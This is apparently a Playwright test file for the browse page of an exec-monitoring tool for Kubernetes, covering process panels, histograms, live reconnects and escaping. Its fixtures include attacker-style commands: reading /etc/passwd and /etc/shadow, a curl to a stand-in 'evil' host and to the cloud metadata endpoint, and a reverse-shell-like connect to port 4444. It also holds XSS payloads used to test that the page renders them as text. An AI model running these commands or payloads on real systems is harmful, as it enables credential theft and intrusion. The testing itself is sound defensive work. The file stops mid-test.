/// <reference lib="dom" />
// The browse page's views in headless Chromium over the agent's own API: the process panel
// (ancestors, children, exit, an exec session in order, copyable JSON, permalinks), the table's
// badges, toggles and keys, the histogram against the API's counts and its drag-to-zoom, the counts
// by namespace → workload → pod, a download of what is shown, and hostile argv in each of them.
import { readFileSync } from 'node:fs';
import type { Page, Route } from 'playwright-core';
import t, { type Test } from 'tap';
import type { ExecEvent } from '../src/events/schema.js';
import { watchedPage, type WatchedPage } from './helpers/chromium.js';
import { startPageApi } from './helpers/page-api.js';
import { eventually } from './helpers/poll.js';
import { makeEvent, makeExit, makeGap, makeThrottle } from './helpers/events.js';
import { screenshot, VIEWPORTS } from './helpers/screenshots.js';

const pageApi = await startPageApi(5000);
t.teardown(() => pageApi.close());
const { hub, browser, base, publish } = pageApi;
/** A fresh tab (at `size`, the desktop's by default) that records dialogs and page errors. */
const open = (t: Test, path: string, size: keyof typeof VIEWPORTS = 'desktop'): Promise<WatchedPage> => pageApi.open(t, path, size);

const seqsShown = (page: Page) =>
  page.locator('#events tbody tr').evaluateAll((rows) => rows.map((r) => Number((r as HTMLElement).dataset.seq)));
const texts = (page: Page, selector: string) => page.locator(selector).allTextContents();

/**
 * Publishes events made by `make` until one shows as a row (the live stream may still be
 * connecting, and an event published before it opened is not sent to it), at most 50: the last.
 */
async function publishUntilShown(page: Page, make: () => ExecEvent): Promise<ExecEvent> {
  for (let tries = 1; ; tries++) {
    const event = make();
    publish(event);
    const shown = await page.locator(`tr[data-seq="${event.seq}"]`).waitFor({ timeout: 200 }).then(() => true, () => false);
    if (shown || tries === 50) return event;
  }
}

/** A process of namespace `ns`: its execId, its parent's, and its ancestors as the agent lists them. */
function proc(ns: string, pid: number, argv: string[], parent: ExecEvent | null, overrides: Partial<ExecEvent> = {}): ExecEvent {
  const execId = `${ns}.${pid}`;
  const ancestors = parent === null ? [] : [{ execId: parent.execId, pid: parent.pid, comm: parent.comm, filename: parent.filename, argv: parent.argv }, ...parent.ancestors];
  return makeEvent({
    namespace: ns, pid, tid: pid, ppid: parent?.pid ?? 1, execId, parentExecId: parent?.execId ?? 'none',
    comm: (argv[0] ?? '').slice(0, 15), filename: `/usr/bin/${argv[0]}`, argv, argc: argv.length, ancestors, ...overrides,
  });
}

t.test('the process panel: ancestors, children collapsed, exit, JSON, and a permalink that reopens it', async (t) => {
  const top = proc('chain', 100, ['sh', '-c', 'outer'], null);
  const mid = proc('chain', 101, ['sh', '-c', 'inner'], top);
  const sleeps = [102, 103, 104].map((pid) => proc('chain', pid, ['sleep', '1'], mid, { exit: { time: '2026-11-24T16:02:05.000000000Z', status: 'ok', code: 0, signal: null, coreDumped: false, duration: 1.001 } }));
  const leaf = proc('chain', 105, ['chain-marker', '--x'], mid, { exit: { time: '2026-11-24T16:02:05.000000000Z', status: 'error', code: 3, signal: null, coreDumped: false, duration: 0.5 } });
  for (const e of [top, mid, ...sleeps, leaf]) publish(e);
  const { page, errors } = await open(t, '/?namespace=chain');
  await page.locator(`tr[data-seq="${leaf.seq}"]`).waitFor();

  await page.locator(`tr[data-seq="${mid.seq}"] td.where`).click();
  await page.locator('#panel .children').waitFor();
  t.equal(await page.locator('#panel-title').textContent(), "sh -c inner", 'the panel names the process by its command');
  t.same(await texts(page, '#panel .lineage li'), ['100 sh -c outer', '101 sh -c inner'], 'ancestors, oldest first, down to the process');
  t.same(await page.locator('#panel .children li').evaluateAll((lis) => lis.map((li) => [li.querySelector('a')?.textContent, (li as HTMLElement).dataset.count])), [
    ['104 sleep 1', '3'],
    ['105 chain-marker --x', '1'],
  ], 'the three `sleep 1` collapse into one line with their count, the marker beside them');
  t.match(await page.locator('#panel .children li').first().textContent(), /×3/, 'the count is shown');
  t.equal(new URL(page.url()).searchParams.get('open'), mid.execId, 'the open process is in the URL');

  await page.locator('#panel .children a', { hasText: 'chain-marker' }).click();
  await page.waitForFunction((id) => new URL(location.href).searchParams.get('open') === id, leaf.execId);
  await page.locator('#panel .lineage li:nth-child(3)').waitFor();
  t.same(await texts(page, '#panel .lineage li'), ['100 sh -c outer', '101 sh -c inner', '105 chain-marker --x'], 'the child opens with both ancestors');
  t.match(await page.locator('#panel .facts').textContent(), 'exit 3 after 0.500 s', 'its exit');
  const json = JSON.parse((await page.locator('#panel pre.json').textContent()) as string) as ExecEvent;
  t.same(json, JSON.parse(JSON.stringify(leaf)), 'the full event as JSON');
  await browser.context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: base });
  await page.locator('#panel button.copy').click();
  t.same(JSON.parse(await page.evaluate(() => navigator.clipboard.readText())), json, 'copied as shown');

  // The permalink: another tab opens on the same process.
  const permalink = page.url();
  const { page: again } = await open(t, permalink.slice(base.length));
  await again.locator('#panel .lineage li:nth-child(3)').waitFor();
  t.equal(await again.locator('#panel').isVisible(), true, 'the permalink opens the panel');
  t.same(await texts(again, '#panel .lineage li'), ['100 sh -c outer', '101 sh -c inner', '105 chain-marker --x'], 'on the same process');
  t.equal(await again.inputValue('input[name="namespace"]'), 'chain', 'with the same filters');

  await page.keyboard.press('Escape');
  await page.locator('#panel').waitFor({ state: 'hidden' });
  t.equal(new URL(page.url()).searchParams.get('open'), null, 'closed: out of the URL');
  t.same(errors, [], 'no page errors');
});

t.test('an exec session lists its commands in order', async (t) => {
  const shim = proc('sess', 200, ['runc', 'exec'], null);
  const shell = proc('sess', 201, ['bash'], shim, { origin: 'exec', sessionExecId: 'sess.201' });
  const typed = [['id'], ['cat', '/etc/passwd'], ['curl', '-s', 'http://evil']].map((argv, i) =>
    proc('sess', 202 + i, argv, shell, { origin: 'exec', sessionExecId: 'sess.201', retval: i === 1 ? -13 : 0 }));
  for (const e of [shim, shell, ...typed]) publish(e);
  const { page, errors } = await open(t, `/?namespace=sess&open=${shell.execId}`);
  await page.locator('#panel .session li:nth-child(4)').waitFor();
  const session = await page.locator('#panel .session li a').allTextContents();
  t.same(session, ['201 bash', '202 id', '203 cat /etc/passwd', '204 curl -s http://evil'], 'the shell that entered, then every command of the session, oldest first');
  t.match(await page.locator('#panel .session li:nth-child(3)').textContent(), '✗ EACCES', 'a failed one marked');
  t.same(await texts(page, `tr[data-seq="${shell.seq}"] td.origin .badge`), ['exec'], 'the opener has the exec badge in the table');
  t.same(errors, [], 'no page errors');
});

t.test('a process lists the exec attempts of its own that failed, oldest first', async (t) => {
  // A PATH search: two misses, then the binary it runs, all in one process (one execId).
  const misses = ['/usr/local/sbin/tool', '/usr/local/bin/tool'].map((filename, i) =>
    proc('tries', 300, ['tool', '--x'], null, { filename, retval: i === 0 ? -2 : -13 }));
  const ran = proc('tries', 300, ['tool', '--x'], null);
  for (const e of [...misses, ran]) publish(e);
  const { page, errors } = await open(t, `/?namespace=tries&open=${ran.execId}`);
  await page.locator('#panel .failed li:nth-child(2)').waitFor();
  const tried = await texts(page, '#panel .failed li');
  t.match(tried, [/ \/usr\/local\/sbin\/tool ✗ ENOENT$/, / \/usr\/local\/bin\/tool ✗ EACCES$/], 'each path it tried, why it failed, in the order tried');
  t.equal(await page.locator('#panel-title').textContent(), 'tool --x', 'the panel is the process that ran');
  t.same(errors, [], 'no page errors');
});

t.test('badges, quick toggles and keys', async (t) => {
  const probe = makeEvent({ namespace: 'keys', origin: 'probe', argv: ['cat', '/ready'] });
  const failed = makeEvent({ namespace: 'keys', retval: -2, argv: ['nope'] });
  const exec = makeEvent({ namespace: 'keys', origin: 'exec', sessionExecId: 'keys.1', argv: ['bash'] });
  const drift = makeEvent({ namespace: 'keys', drift: true, argv: ['/tmp/x'] });
  const fileless = makeEvent({ namespace: 'keys', fileless: true, origin: 'debug', sessionExecId: 'keys.2', argv: ['memfd:x'] });
  for (const e of [probe, failed, exec, drift, fileless]) publish(e);
  const { page, errors } = await open(t, '/?namespace=keys');
  await page.locator(`tr[data-seq="${fileless.seq}"]`).waitFor();
  t.same(await texts(page, `tr[data-seq="${fileless.seq}"] .badge`), ['debug', 'fileless'], 'origin and fileless badges');
  t.same(await texts(page, `tr[data-seq="${drift.seq}"] .badge`), ['drift'], 'drift badge');
  t.same(await texts(page, `tr[data-seq="${probe.seq}"] .badge`), ['probe'], 'probe badge');

  const cases = [
    ['hideProbes', [fileless, drift, exec, failed]],
    ['failures', [failed]],
    ['sessions', [fileless, exec]],
    ['unusual', [fileless, drift]],
  ] as const;
  for (const [toggle, want] of cases) {
    await page.check(`input[name="${toggle}"]`);
    await page.waitForFunction((n) => document.querySelectorAll('#events tbody tr').length === n, want.length);
    t.same(await seqsShown(page), want.map((e) => e.seq), `${toggle}: only those rows`);
    t.equal(new URL(page.url()).searchParams.get(toggle), '1', `${toggle} in the URL`);
    await page.uncheck(`input[name="${toggle}"]`);
  }
  await page.waitForFunction(() => document.querySelectorAll('#events tbody tr').length === 5);

  await page.locator('h1').click();
  await page.keyboard.press('/');
  t.equal(await page.evaluate(() => (document.activeElement as HTMLInputElement | null)?.name), 'q', '`/` goes to the search');
  await page.keyboard.press('Escape');
  await page.keyboard.press('j');
  await page.keyboard.press('j');
  await page.keyboard.press('k');
  await page.keyboard.press('j');
  t.equal(await page.locator('tr.selected').getAttribute('data-seq'), String(drift.seq), 'j, j, k, j: the second row');
  await page.keyboard.press('Enter');
  await page.locator('#panel .facts').waitFor();
  t.match(await page.locator('#panel-title').textContent(), '/tmp/x', 'Enter opens it');
  await page.keyboard.press('Escape');
  await page.locator('#panel').waitFor({ state: 'hidden' });
  t.same(errors, [], 'no page errors');
});

t.test('the histogram counts what the API counts; a drag zooms the URL and the table', async (t) => {
  const T0 = Date.UTC(2026, 10, 25, 9, 0, 0);
  // 40 execs over two minutes, uneven, a few failed and a few probes.
  const events = Array.from({ length: 40 }, (_, i) => makeEvent({
    namespace: 'hist', pod: `web-${i % 3}`, time: new Date(T0 + Math.floor((i * i * 120_000) / 1600)).toISOString().replace('Z', '250000Z'),
    retval: i % 7 === 0 ? -2 : 0, origin: i % 5 === 0 ? 'probe' : 'workload', argv: ['tick', String(i)],
  }));
  for (const e of events) publish(e);
  const { page, errors } = await open(t, '/?namespace=hist');
  await page.locator(`tr[data-seq="${events[39]?.seq}"]`).waitFor();
  const bins = await page.locator('#histogram g.bin').evaluateAll((gs) => gs.map((g) => ({ start: g.getAttribute('data-start'), end: g.getAttribute('data-end'), count: Number(g.getAttribute('data-count')) })));
  t.equal(bins.reduce((n, b) => n + b.count, 0), 40, 'every exec in some bar');
  const api = async (query: string) => ((await (await fetch(`${base}/api/events?${query}&limit=10000`)).json()) as { events: ExecEvent[] }).events.length;
  for (const b of bins.filter((_, i) => i % 6 === 0 || i === bins.length - 1)) {
    t.equal(b.count, await api(`namespace=hist&since=${b.start}&until=${b.end}`), `bar ${b.start}: as the API counts it`);
  }
  const failedBars = await page.locator('#histogram rect.stack-failed').evaluateAll((rs) => rs.reduce((n, r) => n + Number(r.getAttribute('data-count')), 0));
  t.equal(failedBars, events.filter((e) => e.retval !== 0).length, 'stacked by result: the failed part');
  await page.selectOption('#stack', 'origin');
  // The worker counts the overview anew: the bars change after a round trip, not at the select.
  await page.locator('#histogram rect.stack-probe').first().waitFor();
  const probeBars = await page.locator('#histogram rect.stack-probe').evaluateAll((rs) => rs.reduce((n, r) => n + Number(r.getAttribute('data-count')), 0));
  t.equal(probeBars, events.filter((e) => e.origin === 'probe').length, 'stacked by origin: the probes');
  t.equal(new URL(page.url()).searchParams.get('stack'), 'origin', 'the stacking in the URL');

  t.same(await page.locator('#groups > li > .name').allTextContents(), ['hist'], 'the namespace');
  t.same(await page.locator('#groups .depth-2 .name').allTextContents(), ['web-0', 'web-1', 'web-2'], 'its pods, the most first');
  t.equal(await page.locator('#groups .spark').count(), 5, 'a sparkline each: namespace, workload, three pods');

  const box = (await page.locator('#histogram').boundingBox()) as { x: number; y: number; width: number; height: number };
  await page.mouse.move(box.x + box.width * 0.5, box.y + box.height / 2);
  await page.mouse.down();
  await page.mouse.move(box.x + box.width * 0.7, box.y + box.height / 2, { steps: 4 });
  await page.mouse.up();
  await page.waitForFunction(() => new URL(location.href).searchParams.has('until'));
  const url = new URL(page.url());
  const since = url.searchParams.get('since') as string;
  const until = url.searchParams.get('until') as string;
  t.ok(Date.parse(since) > T0 && Date.parse(until) < T0 + 120_000 && since < until, `zoomed to ${since} – ${until}`);
  const want = await api(`namespace=hist&since=${since}&until=${until}`);
  t.ok(want > 0 && want < 40, `some of the execs fall in it (${want})`);
  await page.waitForFunction((n) => document.querySelectorAll('#events tbody tr').length === n, want);
  const times = await page.locator('#events tbody td.time a').evaluateAll((as) => as.map((a) => (a as HTMLElement).title.split(':').slice(0, 3).join(':')));
  // Event times have nine fraction digits, the window's three: since inclusive, until exclusive, to the nanosecond.
  t.ok(times.every((time) => time >= since.replace('Z', '000000Z') && time < until.replace('Z', '000000Z')), 'the table holds the window only');
  t.equal((await page.locator('#histogram g.bin').evaluateAll((gs) => gs.map((g) => Number(g.getAttribute('data-count'))))).reduce((a, b) => a + b, 0), want, 'the histogram spans the window');

  await page.locator('#groups button.name', { hasText: 'Deployment/web' }).click();
  await page.waitForFunction(() => new URL(location.href).searchParams.get('workload') === 'Deployment/web');
  t.equal(await api(`namespace=hist&workload=Deployment/web&since=${since}&until=${until}`), want, 'the API: every exec of the window is of that workload');
  await page.waitForFunction((n) => document.querySelectorAll('#events tbody tr').length === n, want);
  t.pass('a click on a workload filters on it, the window kept');
  await page.locator('#groups button.name', { hasText: 'web-1' }).click();
  await page.waitForFunction(() => new URL(location.href).searchParams.get('pod') === 'web-1');
  // The URL changes when the filter is applied, the rows once its answer came.
  await page.waitForFunction(() => Array.from(document.querySelectorAll('#events td.where')).every((td) => td.textContent === 'hist/web-1/app'));
  t.same([...new Set(await texts(page, '#events td.where'))], ['hist/web-1/app'], 'a click on a pod filters on it');
  t.same(errors, [], 'no page errors');
});

t.test('a full window: the histogram draws all 60 bars, each as the API counts it', async (t) => {
  const T0 = Date.UTC(2026, 10, 28, 9, 0, 0);
  // One exec a second for two minutes: about two in each bar.
  const events = Array.from({ length: 120 }, (_, i) => makeEvent({ namespace: 'bars', time: new Date(T0 + i * 1000).toISOString().replace('Z', '000000Z'), argv: ['tick', String(i)] }));
  for (const e of events) publish(e);
  const { page, errors } = await open(t, '/?namespace=bars');
  await page.locator(`tr[data-seq="${events[119]?.seq}"]`).waitFor();
  const bars = await page.locator('#histogram g.bin').evaluateAll((gs) => gs.map((g) => ({
    count: Number(g.getAttribute('data-count')),
    start: Date.parse(g.getAttribute('data-start') ?? ''),
    end: Date.parse(g.getAttribute('data-end') ?? ''),
    height: Array.from(g.querySelectorAll('rect'), (r) => Number(r.getAttribute('height'))).reduce((a, b) => a + b, 0),
  })));
  t.equal(bars.length, 60, '60 bars');
  t.ok(bars.every((b) => b.count > 0 && b.height > 0), 'every one drawn, the first and the last included');
  // Each bar counts the execs of its own span [start, end), which the next one starts at.
  const within = (b: { start: number; end: number }) => events.filter((e) => Date.parse(e.time) >= b.start && Date.parse(e.time) < b.end).length;
  t.same(bars.map((b) => b.count), bars.map(within), 'each bar the execs of its span');
  t.ok(bars.every((b, i) => i === 0 || b.start === bars[i - 1]?.end), 'the spans follow one another');
  t.equal(bars.reduce((n, b) => n + b.count, 0), 120, 'every exec in one of them');
  const box = (await page.locator('#histogram').boundingBox()) as { width: number };
  const widths = await page.locator('#histogram g.bin rect').evaluateAll((rs) => rs.map((r) => (r as SVGRectElement).getBoundingClientRect().width));
  t.ok(widths.every((w) => w > box.width / 60 / 2), 'each a visible bar, not a sliver');
  t.same(errors, [], 'no page errors');
});

t.test('live: a dropped stream shows in the banner, then its reconnect and replay, and nothing is missed', async (t) => {
  const { page, errors } = await open(t, '/?namespace=redial&live=1');
  await page.waitForFunction(() => document.querySelector('#status')?.textContent?.includes('live'));
  // The stream is open once an event published now shows.
  await publishUntilShown(page, () => makeEvent({ namespace: 'redial', argv: ['first'] }));
  t.ok(await page.locator('#banner').isHidden(), 'no banner while the stream flows');
  // The reconnect is held until the banner was read.
  let release = (): void => undefined;
  const held = new Promise<void>((resolve) => (release = resolve));
  await page.route('**/api/events/stream?*', async (route) => {
    await held;
    await route.continue();
  });
  hub.closeAll();
  await page.locator('#banner').waitFor();
  t.match(await page.locator('#banner').textContent(), /The live stream dropped 1 time \(last at \d\d:\d\d:\d\d\); reconnecting…/, 'the drop, while it reconnects');
  t.match(await page.locator('#status').textContent(), 'reconnecting', 'the status says so too');
  const during = makeEvent({ namespace: 'redial', argv: ['during'] });
  publish(during);
  release();
  await page.locator(`tr[data-seq="${during.seq}"]`).waitFor({ timeout: 10_000 });
  await page.waitForFunction(() => document.querySelector('#banner')?.textContent?.includes('reconnected at'));
  t.match(await page.locator('#banner').textContent(), /it reconnected at \d\d:\d\d:\d\d and replayed what the ring still held, so nothing the ring kept is missing/, 'the reconnect and the replay');
  t.same([...new Set(await texts(page, '#events td.argv'))], ['during', 'first'], 'the exec published while it was down came with the replay, on top');
  t.equal(await page.locator('#events td.argv', { hasText: 'during' }).count(), 1, 'once');
  t.same(errors, [], 'no page errors');
});

t.test('download as JSON lines: what is shown', async (t) => {
  const { page } = await open(t, '/?namespace=keys&failures=1');
  await page.waitForFunction(() => document.querySelectorAll('#events tbody tr').length === 1);
  const [download] = await Promise.all([page.waitForEvent('download'), page.click('#download')]);
  const lines = readFileSync(await download.path(), 'utf8').trimEnd().split('\n').map((line) => JSON.parse(line) as ExecEvent);
  t.same(lines.map((e) => [e.namespace, e.retval]), [['keys', -2]], 'one line per row shown, the full event');
  t.match(download.suggestedFilename(), /^execwatch-.*\.jsonl$/, 'a .jsonl file');
});

t.test('screenshots of the main views at both sizes', async (t) => {
  // A quarter of an hour of a small cluster's namespace, in a window of its own: probes every
  // few seconds, a deployment's workers, a `kubectl exec` session, a throttle and a gap.
  const T0 = Date.UTC(2026, 11, 1, 10, 0, 0);
  const at = (s: number) => new Date(T0 + s * 1000).toISOString().replace('Z', '417000Z');
  const workload = (name: string) => ({ kind: 'Deployment', name });
  let pid = 7000;
  const demo: ExecEvent[] = [];
  for (let s = 0; s < 900; s += 10) {
    demo.push(makeEvent({ namespace: 'shop', pod: 'web-7d9f8-abcde', workload: workload('web'), time: at(s), pid: pid++, origin: 'probe', comm: 'curl', filename: '/usr/bin/curl', argv: ['curl', '-sf', 'http://localhost:8080/healthz'], retval: 0 }));
    if (s % 40 === 0) demo.push(makeEvent({ namespace: 'payments', pod: 'worker-5c6b-x2k9p', container: 'worker', workload: workload('worker'), time: at(s + 3), pid: pid++, comm: 'python3', filename: '/usr/bin/python3', argv: ['python3', '-m', 'worker.settle', '--batch=500'] }));
    if (s > 300 && s < 420) demo.push(makeEvent({ namespace: 'payments', pod: 'worker-5c6b-x2k9p', container: 'worker', workload: workload('worker'), time: at(s + 5), pid: pid++, comm: 'psql', filename: '/usr/bin/psql', argv: ['psql', '-c', 'select 1'], retval: s % 30 === 0 ? -13 : 0 }));
  }
  const shell = makeEvent({ namespace: 'shop', pod: 'web-7d9f8-abcde', workload: workload('web'), time: at(600), pid: 9100, execId: 'demo.9100', comm: 'bash', filename: '/bin/bash', argv: ['bash'], origin: 'exec', sessionExecId: 'demo.9100' });
  const typed = [['id'], ['cat', '/etc/shadow'], ['curl', '-s', 'http://169.254.169.254/latest/meta-data/'], ['/tmp/x', '--connect', '10.0.0.7:4444']].map((argv, i) =>
    makeEvent({ namespace: 'shop', pod: 'web-7d9f8-abcde', workload: workload('web'), time: at(610 + i * 20), pid: 9101 + i, execId: `demo.${9101 + i}`, parentExecId: 'demo.9100', comm: (argv[0] as string).split('/').pop() as string,
      filename: (argv[0] as string).startsWith('/') ? (argv[0] as string) : `/usr/bin/${argv[0]}`, argv, origin: 'exec', sessionExecId: 'demo.9100', retval: i === 1 ? -13 : 0, drift: i === 3,
      ancestors: [{ execId: 'demo.9100', pid: 9100, comm: 'bash', filename: '/bin/bash', argv: ['bash'] }] }));
  for (const e of [...demo, shell, ...typed].sort((a, b) => (a.time < b.time ? -1 : 1))) publish(e);
  publish(makeThrottle({ seq: 990_010, phase: 'start', suppressed: 0, namespace: 'payments', pod: 'worker-5c6b-x2k9p', time: at(330) }));
  publish(makeThrottle({ seq: 990_011, phase: 'stop', suppressed: 214, namespace: 'payments', pod: 'worker-5c6b-x2k9p', time: at(420) }));
  const window = `since=${new Date(T0).toISOString()}&until=${new Date(T0 + 900_000).toISOString()}`;
  for (const size of ['desktop', 'phone'] as const) {
    const { page, errors } = await open(t, `/?${window}`, size);
    await page.locator('#banner').waitFor();
    await screenshot(page, `browse-${size}`);
    const width = await page.evaluate(() => document.documentElement.scrollWidth);
    t.ok(width <= VIEWPORTS[size].width + 1, `${size}: no sideways scrolling (${width}px)`);
    await page.goto(`${base}/?${window}&origin=exec&open=demo.9100`);
    await page.locator('#panel .session li:nth-child(5)').waitFor();
    await screenshot(page, `session-${size}`);
    t.same(errors, [], `${size}: no page errors`);
  }
  const { page: chain } = await open(t, `/?namespace=chain&open=chain.101`);
  await chain.locator('#panel .children').waitFor();
  await screenshot(chain, 'chain-desktop');
});

t.test('live: an exit from the stream shows on its row', async (t) => {
  const { page, errors } = await open(t, '/?namespace=livex&live=1');
  await page.waitForFunction(() => document.querySelector('#status')?.textContent?.includes('live'));
  // The stream may still be connecting: publish until a row shows, then end that one's process.
  const event = await publishUntilShown(page, () => makeEvent({ namespace: 'livex', pid: 8800, execId: 'livex.8800', argv: ['sleep', '1'] }));
  publish(makeExit({ seq: 990_020, pid: 8800, execId: 'livex.8800', namespace: 'livex', status: 'error', code: 7, duration: 1.25 }));
  await page.locator(`tr[data-seq="${event.seq}"] td.result .exit`).waitFor();
  t.equal(await page.locator(`tr[data-seq="${event.seq}"] td.result`).textContent(), 'okexit 7 after 1.250 s', 'the exit on the row, without a reload');
  t.same(errors, [], 'no page errors');
});

t.test('hostile argv, names and pods in every view are text and run nothing', async (t) => {
  const html = '<img src=x onerror=alert(1)>';
  const control = '\x1b[31mred\x1b[0m\r\n\x07';
  const big = 'A'.repeat(100 * 1024);
  // \xff\xfe is not UTF-8: the agent sends U+FFFD in argv and the exact bytes in argvBase64.
  const bytes = Buffer.concat([Buffer.from('evil\0'), Buffer.from([0x66, 0xff, 0xfe, 0x27]), Buffer.from(`\0${html}`)]);
  const parent = proc('xss', 300, ['sh', html], null, { pod: '<svg onload=alert(2)>', workload: { kind: 'Deployment', name: '<b>w</b>' } });
  const evil = proc('xss', 301, ['evil', 'f\ufffd\ufffd\'', html], parent, { argvBase64: bytes.toString('base64'), pod: '<svg onload=alert(2)>', origin: 'exec', sessionExecId: 'xss.301' });
  const child = proc('xss', 302, ['echo', control, big], evil, { origin: 'exec', sessionExecId: 'xss.301', pod: '<svg onload=alert(2)>' });
  for (const e of [parent, evil, child]) publish(e);
  publish(makeThrottle({ seq: 990_001, phase: 'start', suppressed: 0, namespace: 'xss', pod: '<script>alert(4)</script>', time: '2026-11-24T16:02:04.000000000Z' }));
  const { page, dialogs, errors } = await open(t, `/?namespace=xss&open=${evil.execId}`);
  await page.locator('#panel .session li:nth-child(2)').waitFor();
  const cell = page.locator(`tr[data-seq="${evil.seq}"] td.argv`);
  t.equal(await cell.textContent(), `evil $'f\\xff\\xfe\\'' '${html}'`, 'invalid UTF-8 shown byte for byte, pasteable');
  t.equal(await page.locator(`tr[data-seq="${child.seq}"] td.argv .arg`).nth(1).textContent(), "$'\\x1b[31mred\\x1b[0m\\r\\n\\x07'", 'control characters escaped, not sent to the screen');
  t.equal((await page.locator(`tr[data-seq="${child.seq}"] td.argv`).textContent())?.length, 100 * 1024 + "echo $'\\x1b[31mred\\x1b[0m\\r\\n\\x07' ".length, '100 KB of argv as text');
  t.match(await page.locator('#panel-title').textContent(), html, 'the panel title as text');
  t.match(await page.locator('#panel .lineage').textContent(), html, 'ancestors as text');
  t.match(await page.locator('#panel .children').textContent(), 'AAAA', 'children as text');
  t.match(await page.locator('#panel pre.json').textContent(), html, 'JSON as text');
  t.match(await page.locator('#groups').textContent(), '<svg onload=alert(2)>', 'the pod in the overview as text');
  t.match(await page.locator('#banner').textContent(), '<script>alert(4)</script>', 'a throttled pod in the banner as text');
  t.equal(await page.locator('img').count(), 0, 'no img element');
  t.equal(await page.locator('body script:not([src]), #events b, #panel b, #panel svg, #groups b, #banner script').count(), 0, 'no markup from events');
  await page.keyboard.press('Escape');
  await page.waitForTimeout(200);
  t.same(dialogs, [], 'no dialog fired');
  t.same(errors, [], 'no page errors');
});

t.test('the completeness banner: lost and throttled execs in the window, with what they mean', async (t) => {
  const { page: before } = await open(t, '/?since=2026-11-24T16:30:00Z&until=2026-11-24T16:40:00Z');
  await before.waitForFunction(() => document.querySelector('#status')?.textContent?.includes('execs'));
  t.equal(await before.locator('#banner').isVisible(), false, 'no banner while nothing is missing');
  publish(makeGap({ seq: 990_002, time: '2026-11-24T16:31:00.000000000Z', from: '2026-11-24T16:30:58.000000000Z', to: '2026-11-24T16:30:59.000000000Z', lost: 12 }));
  publish(makeGap({ seq: 990_003, time: '2026-11-24T16:32:00.000000000Z', from: '2026-11-24T16:31:58.000000000Z', to: '2026-11-24T16:31:59.000000000Z', lost: 30 }));
  publish(makeThrottle({ seq: 990_004, phase: 'start', suppressed: 0, time: '2026-11-24T16:31:30.000000000Z' }));
  publish(makeThrottle({ seq: 990_005, phase: 'stop', suppressed: 1200, time: '2026-11-24T16:31:40.000000000Z' }));
  const { page } = await open(t, '/?since=2026-11-24T16:30:00Z&until=2026-11-24T16:40:00Z');
  await page.locator('#banner').waitFor();
  const text = await page.locator('#banner').textContent();
  t.match(text, '42 events lost in 2 gaps', 'the losses, added up');
  t.match(text, 'ring buffer was full', 'and what they mean');
  t.match(text, '1200 execs throttled in 1 episode (shop/web-1)', 'the throttled execs and whose');
  const { page: outside } = await open(t, '/?since=2026-11-24T16:33:00Z&until=2026-11-24T16:40:00Z');
  await outside.waitForFunction(() => document.querySelector('#status')?.textContent?.includes('execs'));
  t.equal(await outside.locator('#banner').isVisible(), false, 'not for a window after them');
});

t.test('answers that come late are dropped: a process opened before the one now open, a load applied before the last', async (t) => {
  const slow = proc('late', 400, ['slow-one'], null);
  const fast = proc('late', 401, ['fast-one'], null);
  for (const e of [slow, fast]) publish(e);
  const { page, errors } = await open(t, '/?namespace=late');
  await page.locator(`tr[data-seq="${fast.seq}"]`).waitFor();
  let release = (): void => undefined;
  const held = new Promise<void>((resolve) => (release = resolve));
  await page.route(`**/api/processes/${slow.execId}`, async (route) => {
    await held;
    await route.continue();
  });
  await page.locator(`tr[data-seq="${slow.seq}"] td.where`).click();
  await page.locator(`tr[data-seq="${fast.seq}"] td.where`).click();
  await page.locator('#panel .facts').waitFor();
  const answered = page.waitForResponse((r) => r.url().includes(`/api/processes/${slow.execId}`));
  release();
  await answered;
  await page.waitForTimeout(100);
  t.equal(await page.locator('#panel-title').textContent(), 'fast-one', 'the panel still shows the process opened last');
  t.match(await page.locator('#panel pre.json').textContent(), fast.execId, 'with its own event');

  // Two filters applied in a row, the first answered last: the rows are the second's.
  const other = proc('late2', 402, ['other'], null);
  publish(other);
  let releaseLoad = (): void => undefined;
  const heldLoad = new Promise<void>((resolve) => (releaseLoad = resolve));
  await page.route('**/api/events?*comm=slow-one*', async (route) => {
    await heldLoad;
    await route.continue();
  });
  await page.fill('input[name="comm"]', 'slow-one');
  await page.press('input[name="comm"]', 'Enter');
  await page.fill('input[name="comm"]', '');
  await page.fill('input[name="namespace"]', 'late2');
  await page.press('input[name="namespace"]', 'Enter');
  await page.waitForFunction((seq) => document.querySelector(`tr[data-seq="${seq}"]`) !== null, other.seq);
  const loaded = page.waitForResponse((r) => r.url().includes('comm=slow-one') && !r.url().includes('kind='));
  releaseLoad();
  await loaded;
  await page.waitForTimeout(100);
  t.same(await seqsShown(page), [other.seq], 'the rows of the filter applied last');
  t.same(errors, [], 'no page errors');
});

t.test('a half-typed change in the form is not the view: live rows, permalinks, the URL and a reconnect keep the applied one', async (t) => {
  const first = makeEvent({ namespace: 'applied', argv: ['first'] });
  publish(first);
  const { page, errors } = await open(t, '/?namespace=applied&live=1');
  await page.locator(`tr[data-seq="${first.seq}"]`).waitFor();
  await page.waitForFunction(() => document.querySelector('#status')?.textContent?.includes('live'));
  const streams: string[] = [];
  page.on('request', (request) => {
    if (new URL(request.url()).pathname === '/api/events/stream') streams.push(request.url());
  });
  // Typed, not applied.
  await page.fill('input[name="namespace"]', 'half-typed');
  await page.fill('input[name="limit"]', '1');
  const second = await publishUntilShown(page, () => makeEvent({ namespace: 'applied', argv: ['second'] }));
  t.equal(await page.locator(`tr[data-seq="${first.seq}"]`).count(), 1, 'the older row stays: the limit typed is not applied');
  const href = await page.locator(`tr[data-seq="${second.seq}"] td.time a`).getAttribute('href');
  t.equal(new URLSearchParams(href?.slice(1)).get('namespace'), 'applied', 'a live row links to the applied view');
  await page.check('input[name="failures"]');
  t.equal(new URL(page.url()).searchParams.get('namespace'), 'applied', 'a toggle keeps the applied filter in the URL');
  t.equal(new URL(page.url()).searchParams.get('limit'), null, 'and not the limit typed');
  await page.uncheck('input[name="failures"]');
  const again = page.waitForResponse((r) => new URL(r.url()).pathname === '/api/events/stream');
  hub.closeAll();
  await again;
  t.equal(new URL(streams.at(-1) ?? base).searchParams.get('namespace'), 'applied', 'the reconnect asks for the applied filter');
  t.same(errors, [], 'no page errors');
});

t.test('live: an exit keeps its row selected and focused', async (t) => {
  const { page, errors } = await open(t, '/?namespace=livesel&live=1');
  await page.waitForFunction(() => document.querySelector('#status')?.textContent?.includes('live'));
  const event = await publishUntilShown(page, () => makeEvent({ namespace: 'livesel', pid: 8900, execId: 'livesel.8900', argv: ['sleep', '2'] }));
  await page.locator('h1').click();
  await page.keyboard.press('j');
